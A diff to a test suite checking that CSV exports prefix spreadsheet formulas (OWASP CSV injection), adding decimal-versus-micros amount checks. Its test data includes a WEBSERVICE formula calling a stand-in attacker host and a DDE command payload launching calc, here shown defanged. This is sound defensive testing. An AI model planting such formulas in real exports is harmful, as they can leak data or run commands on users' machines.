@@ -102,7 +102,9 @@ describe('CSV exports neutralize spreadsheet formulas (OWASP CSV injection)', ()
     for (const note of notes) expect(reasons).toContain(`'${note}`);
     expect(reasons).toContain(`'=WEBSERVICE("http://evil.example")`);
     const debit = rows.find((row) => row.reason.startsWith(`'=WEBSERVICE`))!;
-    expect(debit.balance_change).toBe('-1500000');
+    expect(debit.balance_change_micros).toBe('-1500000');
+    expect(debit.balance_change).toBe('-1.50'); // the decimal amount beside the micros
+    expect(Number(debit.balance_after) * 1e6).toBeCloseTo(Number(debit.balance_after_micros), 0);
   });
 
   it('calls/export.csv: an agent name and a hang-up reason that are formulas are prefixed; numbers stay', async () => {
@@ -113,10 +115,17 @@ describe('CSV exports neutralize spreadsheet formulas (OWASP CSV injection)', ()
       hangup_reason: `'-2+3+cmd|" /C calc"!A0`,
       to_number: '+14155550100',
     });
+    // The decimal amount beside the micros: empty while the call has no cost.
+    if (rows[0].cost_micros) {
+      expect(Number(rows[0].cost) * 1e6).toBeCloseTo(Number(rows[0].cost_micros), 0);
+    } else {
+      expect(rows[0].cost).toBe('');
+    }
   });
 
   it('billing/summary.csv: a group label that is a formula is prefixed', async () => {
     const rows = await csv('/api/billing/summary.csv?groupBy=agent');
     expect(rows.map((row) => row.label)).toContain("'@agent SUM(A1)");
+    for (const row of rows) expect(row.spend_usd).toMatch(/^-?\d+\.\d{2,6}$/);
   });
 });
